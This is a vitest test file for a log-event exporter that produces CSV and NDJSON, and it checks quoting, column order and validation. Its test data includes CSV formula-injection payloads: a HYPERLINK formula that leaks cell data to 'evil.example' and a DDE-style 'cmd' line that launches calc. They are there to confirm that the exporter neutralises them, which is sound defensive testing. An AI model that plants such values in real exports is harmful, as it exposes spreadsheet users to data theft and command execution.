import { describe, expect, it } from 'vitest';
import { parseCsv } from '@/server/testing/csv';
import { CSV_EOL, csvHeader, csvRenderer, csvText, exportInput, ndjsonRenderer, sensitiveText } from './export';
import { EVENT_COLUMNS, eventRowOutput, type EventRecord } from './events';

function record(over: Partial<EventRecord> = {}): EventRecord {
  return {
    ts: '2026-01-15T12:00:05.123456Z', id: '42', proxy_id: 'proxy-a', request_id: 'req-1', dst_service: 'shop/users', src_service: 'shop/web',
    method: 'GET', path: '/api/users/1', route: '/api/users/{id}', status: 200, duration_ms: 12.5, bytes_in: 10, bytes_out: 512,
    client_ip: '10.1.2.3', user_agent: 'curl/8', token_id: 'tok-1', user_id: null, cluster: 'eu-1', namespace: 'shop', sensitive: null, ...over,
  };
}

const HOSTILE = [
  'plain',
  'with,comma',
  'with "quotes"',
  '"',
  '""',
  'line\nbreak',
  'carriage\rreturn',
  'crlf\r\ninside',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  ' =not a formula (leading space)',
  "'already quoted",
  'ünïcødé ✓ 日本語 👩‍💻 \u202Eevil',
  'bell\u0007 esc\u001b[31m del\u007f vt\u000b ff\u000c',
  'trailing space ',
  ',',
  '',
];

/** What a spreadsheet shows for a cell the export neutralised. */
const shown = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

describe('csvText', () => {
  it('leaves ordinary text alone', () => {
    expect(csvText('/api/users/1')).toBe('/api/users/1');
    expect(csvText('Mozilla/5.0 (X11; Linux x86_64)')).toBe('Mozilla/5.0 (X11; Linux x86_64)');
    expect(csvText('')).toBe('');
  });

  it('quotes a field with a quote, comma, CR or LF and doubles its quotes', () => {
    expect(csvText('a,b')).toBe('"a,b"');
    expect(csvText('say "hi"')).toBe('"say ""hi"""');
    expect(csvText('a\nb')).toBe('"a\nb"');
    expect(csvText('a\rb')).toBe('"a\rb"');
  });

  it('neutralises what a spreadsheet would run as a formula', () => {
    expect(csvText('=1+1')).toBe("'=1+1");
    expect(csvText('+1')).toBe("'+1");
    expect(csvText('-1')).toBe("'-1");
    expect(csvText('@A1')).toBe("'@A1");
    expect(csvText('\tx')).toBe("'\tx");
    expect(csvText('\r=1')).toBe('"\'\r=1"');
    expect(csvText('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvText('a=1')).toBe('a=1');
  });

  it('reads back as the value (neutralised) through a strict RFC 4180 parser', () => {
    const line = HOSTILE.map(csvText).join(',') + CSV_EOL;
    expect(parseCsv(line)).toEqual([HOSTILE.map(shown)]);
  });
});

describe('CSV pages', () => {
  it('writes the header and a line per record with the columns asked, in order', () => {
    const render = csvRenderer(['status', 'path', 'sensitive', 'user', 'durationMs', 'ts']);
    const text = csvHeader(['status', 'path', 'sensitive', 'user', 'durationMs', 'ts']) + render([
      record(),
      record({ status: 503, path: '/x,"y"', duration_ms: null, user_id: '=cmd', sensitive: [
        { class: 'card_number', direction: 'response', count: 1 }, { class: 'card_number', direction: 'response', count: 1 }, { class: 'email', direction: 'request', count: 1 },
      ] }),
    ]);
    expect(text.endsWith(CSV_EOL)).toBe(true);
    expect(parseCsv(text)).toEqual([
      ['status', 'path', 'sensitive', 'user', 'durationMs', 'ts'],
      ['200', '/api/users/1', '', '', '12.5', '2026-01-15T12:00:05.123Z'],
      ['503', '/x,"y"', 'card_number:response:2;email:request:1', "'=cmd", '', '2026-01-15T12:00:05.123Z'],
    ]);
  });

  it('keeps every hostile value in its own field, row count intact', () => {
    const page = HOSTILE.map((s, i) => record({ path: s, user_agent: s, request_id: `r${i}`, sensitive: [{ class: s, direction: 'response', count: 1 }] }));
    const cols = ['requestId', 'path', 'userAgent', 'sensitive'] as const;
    const parsed = parseCsv(csvHeader(cols) + csvRenderer(cols)(page));
    expect(parsed).toHaveLength(HOSTILE.length + 1);
    parsed.slice(1).forEach((row, i) => expect(row).toEqual([`r${i}`, shown(HOSTILE[i]), shown(HOSTILE[i]), shown(`${HOSTILE[i]}:response:1`)]));
  });

  it('writes nothing for an empty page', () => {
    expect(csvRenderer(['ts'])([])).toBe('');
    expect(ndjsonRenderer([...EVENT_COLUMNS])([])).toBe('');
  });

  it('sensitiveText joins class:direction:count with ;', () => {
    expect(sensitiveText([])).toBe('');
    expect(sensitiveText([{ class: 'card_number', direction: 'response', count: 2 }, { class: 'email', direction: 'request', count: 1 }])).toBe('card_number:response:2;email:request:1');
  });
});

describe('NDJSON pages', () => {
  it('writes one JSON object per line with every column but the key, sensitive as its array', () => {
    const text = ndjsonRenderer([...EVENT_COLUMNS])([record({ path: 'a\nb\u2028"c"', sensitive: [{ class: 'email', direction: 'request', count: 1, path: '$.e' }] }), record()]);
    const lines = text.split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    const first = JSON.parse(lines[0]) as Record<string, unknown>;
    expect(Object.keys(first)).toEqual([...EVENT_COLUMNS]);
    expect(first).toMatchObject({ path: 'a\nb\u2028"c"', sensitive: [{ class: 'email', direction: 'request', count: 1 }], user: null, status: 200 });
  });

  it('keeps only the columns asked, in their order', () => {
    const [line] = ndjsonRenderer(['status', 'ts'])([record()]).split('\n');
    expect(line).toBe('{"status":200,"ts":"2026-01-15T12:00:05.123Z"}');
  });
});

describe('exportInput', () => {
  const range = { from: '2026-01-15T12:00:00Z', to: '2026-01-15T13:00:00Z' };
  it('defaults to CSV of every column', () => {
    const parsed = exportInput.parse(range);
    expect(parsed).toMatchObject({ q: '', format: 'csv' });
    expect(parsed.columns).toBeUndefined();
  });

  it('refuses an unknown format or column, the key, and no columns at all', () => {
    expect(() => exportInput.parse({ ...range, format: 'xlsx' })).toThrow(/format must be csv or ndjson/);
    expect(() => exportInput.parse({ ...range, columns: ['ts', 'nope'] })).toThrow(/no column \W+nope/);
    expect(() => exportInput.parse({ ...range, columns: ['key'] })).toThrow(/no column \W+key/);
    expect(() => exportInput.parse({ ...range, columns: [] })).toThrow(/at least one/);
    expect(() => exportInput.parse({ from: 'yesterday', to: range.to })).toThrow(/from must be a time in ISO 8601/);
  });

  it('offers every field of the result table but its key', () => {
    expect([...EVENT_COLUMNS].sort()).toEqual(Object.keys(eventRowOutput.shape).filter((k) => k !== 'key').sort());
  });
});
